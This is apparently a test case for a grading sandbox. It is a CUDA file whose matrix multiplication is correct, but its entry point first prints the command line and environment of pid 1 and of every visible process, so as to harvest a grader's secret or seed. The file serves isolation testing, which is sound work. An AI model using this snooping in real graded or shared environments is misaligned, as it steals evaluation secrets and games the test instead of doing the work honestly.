// attack: reads the command line and environment of the run's first
// process (pid 1 of its namespace, a fork of the grader were it not
// exec'd: an instructor's --secret or --seed on it) and of every process
// it can see; then does the lab
// expect: full
#include "lab.h"
#include <dirent.h>
#include <stdio.h>
#include <string.h>

__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k)
            Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue;
    }
}

static void honest(const float *M, const float *N, float *P, int width)
{
    size_t bytes = (size_t)width * width * sizeof(float);
    float *d_M, *d_N, *d_P;
    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
    CUDA_CHECK(cudaGetLastError());
    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
    CUDA_CHECK(cudaFree(d_M));
    CUDA_CHECK(cudaFree(d_N));
    CUDA_CHECK(cudaFree(d_P));
}

/* A /proc file's bytes, NULs as spaces, in buf; "" when unreadable. */
static const char *slurp(const char *path, char *buf, size_t size)
{
    FILE *f = fopen(path, "r");
    size_t n = f ? fread(buf, 1, size - 1, f) : 0;
    if (f)
        fclose(f);
    for (size_t i = 0; i < n; i++)
        if (buf[i] == '\0')
            buf[i] = ' ';
    buf[n] = '\0';
    return buf;
}

void basic_matmul(const float *M, const float *N, float *P, int width)
{
    char buf[8192], path[300];
    printf("proc_one: pid 1 is [%s]\n", slurp("/proc/1/cmdline", buf, sizeof buf));
    printf("proc_one: pid 1's environment [%s]\n", slurp("/proc/1/environ", buf, sizeof buf));
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        printf("proc_one: sees pid %s [%s]\n", e->d_name, slurp(path, buf, sizeof buf));
    }
    if (d)
        closedir(d);
    honest(M, N, P, width);
}
